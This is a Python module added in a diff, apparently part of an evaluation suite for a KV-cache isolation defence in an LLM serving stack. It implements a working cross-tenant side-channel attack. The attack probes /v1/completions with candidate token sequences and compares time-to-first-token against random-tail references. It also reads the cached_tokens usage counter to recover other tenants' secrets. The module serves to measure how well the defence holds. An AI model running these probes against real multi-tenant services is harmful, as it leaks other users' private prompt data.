@@ -1,0 +1,288 @@
+"""Attack 1: reconstruct each victim's secret from TTFT over a candidate set.
+
+Physics (measured on the CPU profile, see README "Evaluation"): a cache hit that covers one more
+token saves the prefill of that one token, tens of microseconds on the tiny CPU model, far
+below HTTP and scheduler jitter (milliseconds, and seconds-long spikes when other processes
+share the CPU). And a probe caches itself, so repeating it measures a hit of the attacker's
+own making. A usable probe therefore must make a right guess reuse *many* more of the
+victim's tokens than a wrong guess, and must never be repeated.
+
+Design (Early Bird / PromptPeek style, adapted to those constraints):
+
+- The attacker knows the app's prompt template: the known prefix before the secret (system
+  prompt, field label) and the known continuation after it (the app's policy text). Probes
+  are sent as token ids through ``/v1/completions``.
+- For a candidate ``c`` the attacker sends ``m`` probes; probe ``i`` is
+  ``prefix + c + continuation[:(i + 1) * L]``. Probe ``i - 1`` already cached everything
+  before ``continuation[i * L]`` for the attacker itself, so probe ``i`` can reuse its last
+  ``L`` tokens only from the *victim's* entries, i.e. only if ``c`` is the secret. Each
+  candidate thus yields ``m`` independent measurements of ``L`` tokens' worth of prefill, and
+  no probe is repeated.
+- Each probe is preceded by a reference of the same length that is a sure miss (the same
+  prompt with its last ``L`` tokens replaced by random tokens). The feature is
+  ``TTFT(probe) / TTFT(reference)``: about 1 for a miss, well below 1 for a hit. The ratio
+  cancels slow drift in machine load; the median over ``m`` chunks removes isolated spikes.
+- The hit/miss threshold on the feature is calibrated from probes whose outcome the attacker
+  knows (it primes random prompts with its own account: re-probes are hits; fresh random
+  prompts are misses); see :mod:`sglang_safekv.evaluation.calibration`.
+- Decision: the candidates whose median feature is below the threshold are hits; the attacker
+  claims the one with the lowest median, or nothing if none is a hit.
+
+Granularity: one candidate value per probe sequence; ``L`` must be large enough that ``L``
+tokens of prefill stand out of the noise (hundreds of tokens on this CPU). Token-level
+granularity is what the LPM ordering attack (:mod:`.lpm_order`) provides.
+
+The same probes also read ``usage.prompt_tokens_details.cached_tokens``: a separate,
+noise-free channel ("usage counter") reported alongside.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import dataclasses
+import random
+import statistics
+from collections.abc import Sequence
+
+from tqdm.auto import tqdm
+
+from sglang_safekv.evaluation import stats
+from sglang_safekv.evaluation.attacks.common import FillerTokens, send_victims
+from sglang_safekv.evaluation.calibration import Threshold, calibrate
+from sglang_safekv.evaluation.client import ApiClient, Measurement
+from sglang_safekv.evaluation.codec import Codec
+from sglang_safekv.evaluation.victims import Victim
+
+
+@dataclasses.dataclass(frozen=True)
+class ReconstructionSettings:
+    chunk_tokens: int = 256  # L: continuation tokens whose reuse one probe measures
+    chunks: int = 3  # m: independent probes per candidate
+    calibration_pairs: int = 10  # known hits and known misses each
+    victim_max_tokens: int = 4
+    settle_s: float = 2.0  # after the victims, before probing (lets the detector finish)
+    attacker: str = "attacker000"
+    seed: int = 7
+
+
+@dataclasses.dataclass
+class CandidateProbes:
+    value: str
+    is_secret: bool
+    features: list[float]
+    counter_hits: list[bool]  # cached_tokens reached into the chunk the probe measures
+
+    @property
+    def median_feature(self) -> float:
+        return statistics.median(self.features)
+
+
+@dataclasses.dataclass
+class VictimOutcome:
+    tenant: str
+    kind: str
+    secret: str
+    claimed: str | None  # what the TTFT attacker concluded (None: no hit)
+    counter_claimed: str | None  # what the usage-counter reader concluded
+    candidates: list[CandidateProbes]
+
+    @property
+    def recovered(self) -> bool:
+        return self.claimed == self.secret
+
+    @property
+    def counter_recovered(self) -> bool:
+        return self.counter_claimed == self.secret
+
+
+@dataclasses.dataclass
+class ReconstructionResult:
+    threshold: Threshold
+    outcomes: list[VictimOutcome]
+    probes_sent: int
+    calibration_hits: list[float]
+    calibration_misses: list[float]
+
+    def summary(self) -> dict:
+        n = len(self.outcomes)
+        true_feats = [
+            f for o in self.outcomes for c in o.candidates if c.is_secret for f in c.features
+        ]
+        decoy_feats = [
+            f for o in self.outcomes for c in o.candidates if not c.is_secret for f in c.features
+        ]
+        auc = stats.auc_interval(true_feats, decoy_feats) if true_feats and decoy_feats else None
+        return {
+            "secrets": n,
+            "recovered": sum(o.recovered for o in self.outcomes),
+            "success_rate": sum(o.recovered for o in self.outcomes) / n if n else None,
+            "wrong_claims": sum(o.claimed is not None and not o.recovered for o in self.outcomes),
+            "counter_recovered": sum(o.counter_recovered for o in self.outcomes),
+            "counter_success_rate": (
+                sum(o.counter_recovered for o in self.outcomes) / n if n else None
+            ),
+            "chance_rate": (
+                statistics.mean(1 / len(o.candidates) for o in self.outcomes) if n else None
+            ),
+            "threshold": dataclasses.asdict(self.threshold),
+            "feature_auc": None if auc is None else dataclasses.asdict(auc),
+            "probes_sent": self.probes_sent,
+            "per_victim": [
+                {
+                    "tenant": o.tenant,
+                    "kind": o.kind,
+                    "recovered": o.recovered,
+                    "claimed_is_secret": o.claimed == o.secret if o.claimed else None,
+                    "secret_median_feature": next(
+                        c.median_feature for c in o.candidates if c.is_secret
+                    ),
+                    "best_decoy_median_feature": min(
+                        (c.median_feature for c in o.candidates if not c.is_secret),
+                        default=None,
+                    ),
+                }
+                for o in self.outcomes
+            ],
+        }
+
+
+@dataclasses.dataclass(frozen=True)
+class ProbePlan:
+    """Token ids the attacker derives from the template for one candidate."""
+
+    prefix: list[int]  # known tokens before the secret (common to all candidates)
+    candidate: list[int]  # the candidate's tokens
+    continuation: list[int]  # known template tokens after the candidate
+
+
+def plan_probes(codec: Codec, victim: Victim, chunk_tokens: int, chunks: int) -> list[ProbePlan]:
+    """One plan per candidate, from the template only (never from the victim's prompt)."""
+    template = victim.template
+    plans = []
+    for value in victim.candidates:
+        # A stand-in tail fixes where the continuation ends; tokens at that edge are dropped.
+        messages = template.messages(value, tail="Hello")
+        start = len(template.head)
+        span = codec.locate(messages, start, start + len(value))
+        cont_end = span.tokens_before_char(len(template.content(value))) - 1
+        plans.append(
+            ProbePlan(
+                prefix=span.ids[: span.first],
+                candidate=span.ids[span.first : span.stop],
+                continuation=span.ids[span.stop : cont_end],
+            )
+        )
+    common = _common_prefix_len([p.prefix + p.candidate for p in plans])
+    need = chunk_tokens * chunks
+    out = []
+    for p in plans:
+        full = p.prefix + p.candidate
+        if len(p.continuation) < need:
+            raise ValueError(
+                f"{victim.tenant}: the template continuation has {len(p.continuation)} tokens, "
+                f"the probes need {need} (chunk_tokens x chunks); lengthen continuation_words"
+            )
+        cut = min(common, len(p.prefix))
+        out.append(ProbePlan(full[:cut], full[cut:], p.continuation))
+    return out
+
+
+def _common_prefix_len(seqs: Sequence[Sequence[int]]) -> int:
+    n = min(len(s) for s in seqs)
+    for i in range(n):
+        if len({s[i] for s in seqs}) > 1:
+            return i
+    return n
+
+
+class TtftProber:
+    """Sends reference/probe pairs and turns them into features."""
+
+    def __init__(self, client: ApiClient, attacker: str, filler: FillerTokens):
+        self.client = client
+        self.attacker = attacker
+        self.filler = filler
+        self.sent = 0
+
+    async def _send(self, ids: list[int]) -> Measurement:
+        self.sent += 1
+        m = await self.client.complete_ids(self.attacker, ids, max_tokens=1)
+        if not m.ok:
+            raise RuntimeError(f"probe failed: {m.error}")
+        return m
+
+    async def feature(self, probe: list[int], measured: int) -> tuple[float, Measurement]:
+        """TTFT of ``probe`` over that of a sure miss whose last ``measured`` tokens are random."""
+        reference = probe[:-measured] + self.filler.take(measured)
+        ref = await self._send(reference)
+        got = await self._send(probe)
+        return got.ttft_s / ref.ttft_s, got
+
+
+async def calibrate_prober(
+    prober: TtftProber, prefixes: Sequence[list[int]], settings: ReconstructionSettings
+) -> tuple[Threshold, list[float], list[float]]:
+    """Known hits (re-probes of the attacker's own primed prompts) and known misses."""
+    L = settings.chunk_tokens
+    hits: list[float] = []
+    misses: list[float] = []
+    for i in range(settings.calibration_pairs):
+        prefix = prefixes[i % len(prefixes)]
+        body = prober.filler.take(8 + L)
+        await prober._send(prefix + body + prober.filler.take(4))  # prime: own cache entry
+        feature, _ = await prober.feature(prefix + body, L)
+        hits.append(feature)
+        feature, _ = await prober.feature(prefix + prober.filler.take(8 + L), L)
+        misses.append(feature)
+    return calibrate(hits, misses), hits, misses
+
+
+async def run(
+    client: ApiClient,
+    codec: Codec,
+    victims: Sequence[Victim],
+    settings: ReconstructionSettings,
+    progress: bool = True,
+) -> ReconstructionResult:
+    L, m = settings.chunk_tokens, settings.chunks
+    plans = {v.tenant: plan_probes(codec, v, L, m) for v in victims}
+    await send_victims(
+        client, [(v.tenant, v.messages()) for v in victims], settings.victim_max_tokens
+    )
+    await asyncio.sleep(settings.settle_s)
+
+    filler = FillerTokens(codec, settings.seed)
+    prober = TtftProber(client, settings.attacker, filler)
+    prefixes = [plans[v.tenant][0].prefix for v in victims]
+    for prefix in prefixes:  # warm the public prefixes for the attacker (isolated mode)
+        await prober._send(prefix + filler.take(4))
+    threshold, cal_hits, cal_misses = await calibrate_prober(prober, prefixes, settings)
+
+    rng = random.Random(settings.seed)
+    outcomes = []
+    total = sum(len(v.candidates) for v in victims)
+    with tqdm(total=total, desc="ttft probes", unit="cand", disable=not progress) as bar:
+        for v in victims:
+            order = list(zip(v.candidates, plans[v.tenant]))
+            rng.shuffle(order)
+            cands = []
+            for value, plan in order:
+                base = plan.prefix + plan.candidate
+                features, counter = [], []
+                for i in range(m):
+                    probe = base + plan.continuation[: (i + 1) * L]
+                    feature, got = await prober.feature(probe, L)
+                    features.append(feature)
+                    counter.append(got.cached_tokens >= len(probe) - L // 2)
+                cands.append(CandidateProbes(value, value == v.secret.value, features, counter))
+                bar.update(1)
+            hits = [c for c in cands if threshold.is_hit(c.median_feature)]
+            claimed = min(hits, key=lambda c: c.median_feature).value if hits else None
+            counter_hits = [c for c in cands if sum(c.counter_hits) * 2 > len(c.counter_hits)]
+            counter_claimed = counter_hits[0].value if len(counter_hits) == 1 else None
+            outcomes.append(
+                VictimOutcome(
+                    v.tenant, v.secret.kind, v.secret.value, claimed, counter_claimed, cands
+                )
+            )
+    return ReconstructionResult(threshold, outcomes, prober.sent, cal_hits, cal_misses)
